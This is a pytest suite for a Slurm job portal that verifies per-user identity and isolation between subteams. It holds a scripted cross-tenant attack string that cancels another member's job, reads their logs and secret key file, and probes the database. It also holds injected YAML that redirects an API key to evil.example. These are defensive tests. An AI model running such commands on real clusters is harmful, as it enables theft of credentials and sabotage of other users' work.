"""Identity reaches the cluster: each member's job runs as their own cluster user, and what the portal
refuses, Slurm and the file system refuse too, tried from inside a job as a member of another subteam.

The personas (tests/personas.py) are `tk-<role>` on the dev cluster: `member` and `lead` in the sft
subteam (Slurm account `sft`), `other` in pretrain (account `pretrain`) only.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import subprocess
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from django.conf import settings
from django.core.exceptions import ValidationError
from django.db import connection

from lending import services as lending
from portal import services as portal_services
from portal.models import Membership
from scheduler import associations, identity, logs, services, slurm, ssh
from scheduler.models import AccessEvent, Association, Cluster, ClusterAccount, Job, JobEvent
from scheduler.steps import CycleStats, Poll
from scheduler.worker import Worker
from tests.personas import Team
from tests.scheduler.conftest import JUDGE_NAME, Remote, sync_associations_now


def spec(team: Team, cluster: Cluster, name: str, command: str, subteam: Any = None) -> services.JobSpec:
    return services.JobSpec(
        subteam=subteam or team.sft, cluster=cluster, name=name, command=command, time_limit_minutes=5
    )


def fresh(job: Job) -> Job:
    return Job.objects.get(pk=job.pk)


def done(*jobs: Job) -> Callable[[], bool]:
    return lambda: all((j := fresh(job)).is_terminal and j.logs_final for job in jobs)


def stdout(job: Job) -> str:
    return logs.log_text(fresh(job), "stdout")[0]


def sacct_field(remote: Remote, slurm_id: str, field: str) -> str:
    result = remote.run("sacct", "--noheader", "--parsable2", "--allusers", "-X", "-j", slurm_id, "-o", field)
    return result.check().stdout.strip()


def test_a_members_job_runs_as_their_own_user_and_its_files_are_theirs(
    team: Team, cluster: Cluster, run_until: Callable[..., None], remote: Remote
) -> None:
    job = services.submit_job(team.member("member"), spec(team, cluster, "mine", "id -un; umask"))
    assert job.cluster_user == "tk-member"
    assert "#SBATCH --account=sft" in job.script
    run_until(done(job))
    job.refresh_from_db()
    assert job.state == Job.State.COMPLETED
    assert stdout(job) == "tk-member\n0077\n"
    assert sacct_field(remote, job.slurm_job_id, "User") == "tk-member"
    assert sacct_field(remote, job.slurm_job_id, "Account") == "sft"
    owner = remote.for_job(job).run("stat", "-c", "%U %a", job.run_dir, job.stdout_path).check().stdout
    assert owner.split("\n")[:2] == ["tk-member 700", "tk-member 600"]
    # The service account tracks it but cannot look inside.
    assert not remote.exists(job.stdout_path)
    assert remote.run("cat", job.stdout_path).exit_status != 0
    # The portal proved the login: the onboarding step is done.
    account = ClusterAccount.objects.get(member=team.member("member"), cluster=cluster)
    assert account.verified_at is not None and account.last_error == ""
    assert team.member("member").__class__.objects.get(pk=team.member("member").pk).has_cluster_account


def test_another_subteams_job_cannot_cancel_read_or_book_into_what_is_not_its_own(
    team: Team, cluster: Cluster, run_until: Callable[..., None], remote: Remote, booked: list[str]
) -> None:
    """`other` (pretrain) tries from inside a job what the portal's own pages refuse it."""
    victim = services.submit_job(team.member("member"), spec(team, cluster, "victim", "sleep 120"))
    run_until(lambda: fresh(victim).state == Job.State.RUNNING)
    victim.refresh_from_db()
    # A booking of sft's, as Slurm enforces it: it admits sft's account only.
    name = f"tanuki-test-{uuid.uuid4().hex[:6]}"
    booked.append(name)
    spec_ = slurm.ReservationSpec(
        name=name,
        start=dt.datetime.now(dt.UTC) + dt.timedelta(seconds=5),
        end=dt.datetime.now(dt.UTC) + dt.timedelta(minutes=10),
        tz=cluster.tz,
        partition="gpu",
        nodes=("node4",),
        accounts=tuple(lending.accounts_for(team.sft.pk, cluster)),
    )
    remote.conn.run_shell(ssh.chain_commands(*slurm.create_reservation_commands(spec_))).check()
    secret = f"{victim.run_dir}/.secrets/judge_api_key"
    remote.for_job(victim).conn.write_file(secret, b"sk-victims-key\n")
    database = Path(connection.settings_dict["NAME"])
    attack = "; ".join(
        [
            f"scancel {victim.slurm_job_id}; echo scancel=$?",
            f"sbatch --reservation={name} --account=pretrain --wrap true 2>&1; echo resv=$?",
            f"sbatch --reservation={name} --account=sft --wrap true 2>&1; echo resv_sft=$?",
            f"cat {victim.stdout_path} 2>/dev/null; echo log=$?",
            f"ls {victim.run_dir} 2>/dev/null; echo dir=$?",
            f"cat {secret} 2>/dev/null; echo key=$?",
            f"touch {victim.run_dir}/planted 2>/dev/null; echo write=$?",
            *(
                [f"head -c 16 {database} 2>/dev/null | od -c | head -1; echo db=$?"]
                if connection.vendor == "sqlite"
                else []
            ),
        ]
    )
    job = services.submit_job(team.member("other"), spec(team, cluster, "attack", attack, team.pretrain))
    assert job.cluster_user == "tk-other"
    run_until(done(job))
    out = stdout(job)
    assert re.search(r"^scancel=[1-9]", out, re.M), out  # Slurm refused
    assert "resv=1" in out and "Access denied" in out, out
    assert "resv_sft=1" in out, out
    for word in ("log", "dir", "key", "write"):
        assert f"{word}=1" in out or f"{word}=2" in out, (word, out)
    assert "sk-victims-key" not in out
    if connection.vendor == "sqlite":
        assert "SQLite format" not in out and "S   Q   L" not in out, out
        assert database.stat().st_mode & 0o777 == 0o600
    # The victim runs on, untouched.
    assert fresh(victim).state == Job.State.RUNNING
    # Slurm itself still runs it (squeue; accounting may lag behind the controller by a moment).
    squeue = remote.run("squeue", "--noheader", "--jobs", victim.slurm_job_id, "--format", "%T").check()
    assert squeue.stdout.strip() == "RUNNING", squeue.stdout
    assert not remote.sacct_state(victim.slurm_job_id).startswith("CANCELLED")
    assert not remote.for_job(victim).exists(f"{victim.run_dir}/planted")
    services.cancel_job(team.member("member"), fresh(victim))
    run_until(done(victim))


def test_own_cancel_runs_as_the_member_an_admins_as_the_service_account_with_the_admin_as_actor(
    team: Team, cluster: Cluster, run_until: Callable[..., None], remote: Remote
) -> None:
    own = services.submit_job(team.member("member"), spec(team, cluster, "own", "sleep 120"))
    theirs = services.submit_job(team.member("lead"), spec(team, cluster, "theirs", "sleep 120"))
    run_until(lambda: all(fresh(j).state == Job.State.RUNNING for j in (own, theirs)))
    services.cancel_job(team.member("member"), fresh(own))
    services.cancel_job(team.member("admin"), fresh(theirs))
    run_until(done(own, theirs))
    uid = {
        name: subprocess.run(["id", "-u", name], capture_output=True, text=True, check=True).stdout.strip()
        for name in ("tk-member", "tanuki")
    }
    assert remote.sacct_state(fresh(own).slurm_job_id) == f"CANCELLED by {uid['tk-member']}"
    assert remote.sacct_state(fresh(theirs).slurm_job_id) == f"CANCELLED by {uid['tanuki']}"
    for job, actor in ((own, "member"), (theirs, "admin")):
        last = fresh(job).events.filter(to_state=Job.State.CANCELLED).get()
        assert last.actor == team.member(actor), job.name
        assert fresh(job).reason == "cancelled from the portal"


def test_the_service_account_is_an_operator_not_an_administrator(remote: Remote, cluster: Cluster) -> None:
    level = remote.run(
        "sacctmgr", "--noheader", "--parsable2", "show", "user", cluster.username, "format=adminlevel"
    )
    assert level.check().stdout.strip() == "Operator"


def _has_association(remote: Remote, user: str, account: str) -> bool:
    found = slurm.parse_associations(remote.run(*slurm.show_associations_command()).check().stdout)
    return (user, account) in found


def test_memberships_become_associations_and_ending_one_removes_it(
    team: Team, cluster: Cluster, remote: Remote
) -> None:
    other = team.member("other")
    remote.run(*slurm.remove_association_command("tk-other", "sft"))  # left by an earlier run, if any
    assert not _has_association(remote, "tk-other", "sft")
    membership = portal_services.add_membership(team.member("admin"), other, team.sft)
    sync_associations_now(cluster)
    assert _has_association(remote, "tk-other", "sft")
    row = Association.objects.get(cluster=cluster, username="tk-other", account="sft")
    assert row.state == Association.State.PRESENT
    # Now `other` may submit for sft, and Slurm takes the account.
    job = services.submit_job(other, spec(team, cluster, "joined", "true"))
    assert "#SBATCH --account=sft" in job.script
    services.cancel_job(other, job)
    portal_services.end_membership(team.member("admin"), Membership.objects.get(pk=membership.pk))
    sync_associations_now(cluster)
    assert not _has_association(remote, "tk-other", "sft")
    assert _has_association(remote, "tk-other", "pretrain")  # the membership that goes on stays
    kinds = list(
        AccessEvent.objects.filter(member=other, message__contains="→ sft").values_list("kind", flat=True)
    )
    assert AccessEvent.Kind.ASSOCIATION_ADDED in kinds and AccessEvent.Kind.ASSOCIATION_REMOVED in kinds
    # Idempotent: a second pass changes nothing and runs no sacctmgr change.
    sync_associations_now(cluster)
    assert Association.objects.get(cluster=cluster, username="tk-other", account="sft").state == "removed"


def test_a_failed_sacctmgr_is_kept_visible_and_retried(team: Team, cluster: Cluster) -> None:
    from scheduler.models import SubteamAccount

    SubteamAccount.objects.filter(subteam=team.pretrain, cluster=cluster).update(account="no-such-account")
    sync_associations = associations.sync_associations
    pool = ssh.Pool()
    try:
        conn = identity.connect_service(cluster, pool)
        sync_associations(Poll(cluster, conn, "t", CycleStats(cluster.name), pool=pool))
    finally:
        pool.close_all()
    row = Association.objects.get(cluster=cluster, username="tk-other", account="no-such-account")
    assert row.state == Association.State.FAILED and row.attempts == 1
    assert "no-such-account" in row.last_error or "account" in row.last_error.lower()
    assert row.next_try_at is not None
    assert AccessEvent.objects.filter(
        member=team.member("other"), kind=AccessEvent.Kind.ASSOCIATION_FAILED
    ).exists()


@pytest.mark.parametrize("problem", ["unknown user", "no CA key", "untrusted CA"])
def test_a_login_the_cluster_refuses_submits_nothing_and_says_why(
    team: Team, cluster: Cluster, worker: Worker, remote: Remote, problem: str, tmp_path: Path, settings: Any
) -> None:
    member = team.member("member")
    if problem == "unknown user":
        services.set_cluster_account(None, member, cluster, "tk-ghost")
        expected = "refused tk-ghost"
    elif problem == "no CA key":
        settings.SSH_USER_CA_KEY = str(tmp_path / "missing_ca")
        expected = "cannot read the SSH user CA key"
    else:
        key = ed25519.Ed25519PrivateKey.generate()
        path = tmp_path / "other_ca"
        path.write_bytes(
            key.private_bytes(
                serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
            )
        )
        settings.SSH_USER_CA_KEY = str(path)
        expected = "TrustedUserCAKeys"
    job = services.submit_job(member, spec(team, cluster, "refused", "echo should-not-run"))
    for _ in range(2):
        worker.cycle()
    job.refresh_from_db()
    assert job.state == Job.State.SUBMITTING and job.slurm_job_id == "" and job.submit_attempted_at is None
    assert expected in job.reason, job.reason
    account = ClusterAccount.objects.get(member=member, cluster=cluster)
    assert expected in account.last_error
    assert AccessEvent.objects.filter(member=member, kind=AccessEvent.Kind.LOGIN_FAILED).count() == 1
    assert remote.slurm_jobs(job.slurm_name)[job.slurm_name] == set()
    assert "PRIVATE KEY" not in job.reason and "PRIVATE KEY" not in account.last_error


def test_a_member_without_a_cluster_account_is_told_whom_to_ask(team: Team, cluster: Cluster) -> None:
    ClusterAccount.objects.filter(member=team.member("member"), cluster=cluster).delete()
    with pytest.raises(ValidationError) as refused:
        services.submit_job(team.member("member"), spec(team, cluster, "nope", "true"))
    assert "management team" in str(refused.value.message_dict["cluster"])
    assert not Job.objects.filter(name="nope").exists()


def test_uploaded_keys_mode_logs_in_with_the_members_own_key(
    team: Team,
    cluster: Cluster,
    run_until: Callable[..., None],
    devcluster_info: dict[str, Any],
    remote: Remote,
) -> None:
    cluster.auth_mode = Cluster.AuthMode.MEMBER_KEYS
    cluster.save()
    lead = team.member("lead")
    account = services.set_cluster_account(None, lead, cluster, devcluster_info["keyed_user"])
    with pytest.raises(ValidationError):
        services.submit_job(lead, spec(team, cluster, "no-key-yet", "true"))  # nothing uploaded yet
    text = Path(devcluster_info["keyed_key_path"]).read_text()
    services.upload_member_key(None, account, text)
    account.refresh_from_db()
    assert text.encode() not in bytes(account.encrypted_key) and account.key_fingerprint.startswith("SHA256:")
    sync_associations_now(cluster)
    job = services.submit_job(lead, spec(team, cluster, "keyed", "id -un"))
    run_until(done(job))
    assert stdout(job) == f"{devcluster_info['keyed_user']}\n"
    assert sacct_field(remote, fresh(job).slurm_job_id, "User") == devcluster_info["keyed_user"]
    # Still certificates for nobody: a member whose key is refused says so.
    assert services.check_login(None, account) == ""


def test_the_shared_mode_runs_everything_as_the_service_account(
    team: Team, cluster: Cluster, run_until: Callable[..., None]
) -> None:
    cluster.auth_mode = Cluster.AuthMode.SHARED
    cluster.default_account = "sft"
    cluster.save()
    ClusterAccount.objects.filter(cluster=cluster).delete()  # not needed in this mode
    job = services.submit_job(team.member("member"), spec(team, cluster, "shared", "id -un"))
    assert job.cluster_user == cluster.username
    run_until(done(job))
    assert stdout(job) == f"{cluster.username}\n"


def test_no_script_preamble_run_yaml_log_event_or_api_answer_holds_the_judge_key(
    team: Team, training_cluster: Cluster, assets: Any, run_until: Callable[..., None], remote: Remote
) -> None:
    """A real evaluation: the key reaches the job as a file only its user reads, removed at the end."""
    from scheduler.training_jobs import TrainingRequest
    from tests.judge import API_KEY

    request = TrainingRequest(
        kind="eval",
        model=assets.model,
        questions=assets.questions,
        judge_model="judge-x",
        judge_endpoint=JUDGE_NAME,
        max_new_tokens=8,
        dtype="fp32",
        use_cpu=True,
        wandb_mode="offline",
        extra_yaml="evaluate:\n  judge:\n    base_url: http://evil.example/v1\n    api_key_env: HOME\n",
    )
    job = services.submit_job(
        team.member("member"),
        services.JobSpec(
            subteam=team.sft,
            cluster=training_cluster,
            name="eval-secret",
            command="",
            kind="eval",
            training=request,
            time_limit_minutes=10,
        ),
    )
    assert "evil.example" not in job.config_yaml and "api_key_file" in job.config_yaml
    run_until(done(job), timeout=240)
    job.refresh_from_db()
    assert job.state == Job.State.COMPLETED, (job.reason, logs.log_text(job, "stderr")[0][-2000:])
    api = team.client("member").get(f"/api/v1/jobs/{job.pk}/").content.decode()
    texts = {
        "script": job.script,
        "run.yaml": job.config_yaml,
        "preamble": training_cluster.env_preamble,
        "stdout": logs.log_text(job, "stdout")[0],
        "stderr": logs.log_text(job, "stderr")[0],
        "events": " ".join(JobEvent.objects.filter(job=job).values_list("message", flat=True)),
        "api": api,
        "remote run.yaml": remote.for_job(job).read(job.config_path).decode(),
    }
    for where, text in texts.items():
        assert API_KEY not in text, where
    # Gone from the run directory once the job ended (its own EXIT trap; the worker's sweep).
    assert not remote.for_job(job).exists(job.secrets_dir)
    grep = remote.for_job(job).run("grep", "-r", "-l", API_KEY, job.run_dir)
    assert grep.exit_status == 1 and grep.stdout == "", grep.stdout
    assert os.environ.get("TANUKI_TEST_JUDGE_KEY") == API_KEY  # the portal host's, and only there
    assert settings.SSH_USER_CA_KEY not in api


@pytest.fixture
def booked(remote: Remote) -> Any:
    names: list[str] = []
    yield names
    for name in names:
        remote.run(*slurm.delete_reservation_command(name))
